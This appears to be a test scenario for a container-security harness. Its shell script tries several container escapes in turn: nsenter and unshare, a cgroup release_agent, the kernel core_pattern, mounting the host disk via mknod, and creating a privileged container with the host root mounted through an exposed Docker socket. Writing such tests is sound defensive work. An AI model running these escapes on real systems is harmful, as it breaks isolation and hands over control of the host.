# Somebody in a container tries to get out of it, one way after another: namespaces, a control group's release agent, the
# kernel's core pattern, the host's disk, and Docker's own socket, which somebody had mounted into the container. Only the
# last one answers.
user=root
container=yes
directory=/tmp
command=(sh /tmp/.out/out.sh)

prepare() {
    other_side docker /run/docker.sock
    mkdir -p /tmp/.out
    cat >/tmp/.out/out.sh <<'END'
#!/bin/sh
cd /tmp/.out
id
cat /proc/self/status /proc/1/cgroup /proc/self/mountinfo > facts
# The host's processes and mounts.
nsenter -t 1 -m -p -- sh -c id
nsenter --mount=/proc/self/ns/mnt -- id
unshare -m -- id
unshare -U -r -m -- sh -c 'mount -t tmpfs none /mnt 2>/dev/null; id'
# A release agent: the host's kernel would run it.
mkdir -p cgrp
mount -t cgroup -o memory cgroup cgrp
echo 1 > cgrp/notify_on_release
echo /tmp/.out/cmd > cgrp/release_agent
# A core pattern: as well.
echo '|/tmp/.out/cmd' > /proc/sys/kernel/core_pattern
# The host's disk.
mknod sda b 8 0
head -c 512 sda
mkdir -p disk && mount sda disk
# Docker's socket: a container that has the host's disk.
curl -s --unix-socket /run/docker.sock http://localhost/containers/json
curl -s --unix-socket /run/docker.sock -H 'Content-Type: application/json' \
    -d '{"Image":"busybox","Cmd":["sh"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' \
    http://localhost/containers/create
true
END
}
